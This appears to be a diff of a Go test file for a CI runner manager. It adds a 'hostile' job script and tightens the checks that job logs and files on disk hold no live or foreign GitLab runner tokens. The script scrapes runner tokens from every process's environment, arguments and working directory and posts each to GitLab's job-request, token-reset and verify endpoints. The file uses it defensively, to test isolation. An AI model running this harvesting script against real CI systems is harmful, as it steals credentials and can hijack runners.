@@ -11,6 +11,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/runfleet/runfleet/forge/gitlab"
 	"github.com/runfleet/runfleet/internal/testbed/glsim"
 )
 
@@ -136,29 +137,58 @@ func GLJobs(name string, n int, script string) []glsim.JobSpec {
 	return specs
 }
 
-var serverTokenRE = regexp.MustCompile(`CI_SERVER_TOKEN=(glrt-\S+)`)
+// GLHostileScript is a job's script that gathers every runner token it
+// can read (its environment, every process's environment and arguments,
+// the files in every process's working directory) and tries each on
+// GitLab at url: for a job, for a new token of its own, for a check. Each
+// try prints "hostile: <call> with <token>: <status line>".
+func GLHostileScript(url string) string {
+	return `toks=$( { env; for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ; tr '\0' ' ' < $p/cmdline; echo; cat $p/cwd/* $p/cwd/.??*; done 2>/dev/null; } | grep -o 'glrt-[A-Za-z0-9_-]*' | sort -u)
+for tok in $toks; do
+  for call in jobs/request runners/reset_authentication_token runners/verify; do
+    st=$(wget -S -O /dev/null --header 'Content-Type: application/json' --post-data "{\"token\":\"$tok\"}" ` + url + `/api/v4/$call 2>&1 | grep -o 'HTTP/1.[01] [0-9]*' | tail -n 1)
+    echo "hostile: $call with $tok: $st"
+  done
+done`
+}
+
+var runnerTokenRE = regexp.MustCompile(`glrt-[A-Za-z0-9_-]+`)
 
 // CheckGitLabTokens reads every job's log (which prints its environment
-// and every process's command line): the access token never shows, and
-// the only runner token a job sees is its own runner's.
+// and every process's command line, and may print what else it found):
+// the access token never shows, no job's environment has a runner token
+// (CI_SERVER_TOKEN), and the only runner tokens a job shows are its own
+// runner's dead ones: the pool resets a runner's token as it takes its job
+// and the job's first command waits for that.
 func CheckGitLabTokens(t testing.TB, sim *glsim.Server) {
 	t.Helper()
-	tokens := map[int64]string{}
+	owner := map[string]glsim.Runner{}
 	for _, r := range sim.AllRunners() {
-		tokens[r.ID] = r.Token
+		for _, tok := range r.Tokens {
+			owner[tok] = r
+		}
 	}
+	seen := 0
 	for _, j := range sim.Jobs() {
 		out := string(j.Trace)
 		if strings.Contains(out, GLToken) {
 			t.Errorf("job %d saw the access token", j.ID)
 		}
-		for id, tok := range tokens {
-			if id != j.RunnerID && strings.Contains(out, tok) {
-				t.Errorf("job %d (runner %d) saw runner %d's token", j.ID, j.RunnerID, id)
-			}
+		if strings.Contains(out, "CI_SERVER_TOKEN=") {
+			t.Errorf("job %d: a runner token in its environment (CI_SERVER_TOKEN)", j.ID)
 		}
-		if m := serverTokenRE.FindAllStringSubmatch(out, -1); len(m) != 1 || m[0][1] != tokens[j.RunnerID] {
-			t.Errorf("job %d: its environment's CI_SERVER_TOKEN is not its own runner's token, once (%d found)", j.ID, len(m))
+		for _, tok := range runnerTokenRE.FindAllString(out, -1) {
+			r, ok := owner[tok]
+			switch {
+			case !ok:
+				t.Errorf("job %d shows a runner token no runner held", j.ID)
+			case r.ID != j.RunnerID:
+				t.Errorf("job %d (runner %d) saw runner %d's token", j.ID, j.RunnerID, r.ID)
+			case tok == r.Token:
+				t.Errorf("job %d saw its runner's live token", j.ID)
+			default:
+				seen++
+			}
 		}
 		for _, line := range strings.Split(out, "\n") {
 			if strings.Contains(line, "gitlab-runner") && strings.Contains(line, "glrt-") {
@@ -166,15 +196,17 @@ func CheckGitLabTokens(t testing.TB, sim *glsim.Server) {
 			}
 		}
 	}
-	t.Logf("%d job logs (each job's environment and every process's arguments): the access token in none, each job's CI_SERVER_TOKEN its own runner's, no runner token in any argument", len(sim.Jobs()))
+	t.Logf("%d job logs (each job's environment and every process's arguments): the access token in none, no CI_SERVER_TOKEN, %d sightings of runner tokens, each its own runner's and dead", len(sim.Jobs()), seen)
 }
 
 // CheckNoRunnerTokenOnDisk looks for every runner's token in what the
-// manager and the agents wrote (logs, records, working directories).
+// manager and the agents wrote (logs, records, working directories): a
+// runner's token is only in its own config file (gitlab.ConfigFile, in its
+// working directory), where its agent reads it.
 func (f *Fleet) CheckNoRunnerTokenOnDisk() {
 	f.T.Helper()
 	runs := f.GL.AllRunners()
-	files := 0
+	files, own := 0, 0
 	_ = filepath.Walk(f.Dir, func(path string, info os.FileInfo, err error) error {
 		if err != nil || info.IsDir() {
 			return nil
@@ -182,13 +214,23 @@ func (f *Fleet) CheckNoRunnerTokenOnDisk() {
 		files++
 		b, _ := os.ReadFile(path)
 		for _, r := range runs {
-			if bytes.Contains(b, []byte(r.Token)) {
+			for _, tok := range r.Tokens {
+				if !bytes.Contains(b, []byte(tok)) {
+					continue
+				}
+				// A process's working directory is <runner>.<random>, a
+				// container's files <manager>-<pool>-<runner>-<random>.
+				dir := regexp.MustCompile(`(^|-)` + regexp.QuoteMeta(r.Description) + `[.-]`)
+				if filepath.Base(path) == gitlab.ConfigFile && dir.MatchString(filepath.Base(filepath.Dir(path))) {
+					own++
+					continue
+				}
 				f.T.Errorf("runner %s's token is in %s", r.Description, path)
 			}
 		}
 		return nil
 	})
-	f.T.Logf("%d files the manager and the agents wrote: no runner token, no access token", files)
+	f.T.Logf("%d files the manager and the agents wrote: no runner token but %d in their own runners' config files, no access token", files, own)
 }
 
 // PostHook posts a hook delivery with headers and returns the status.
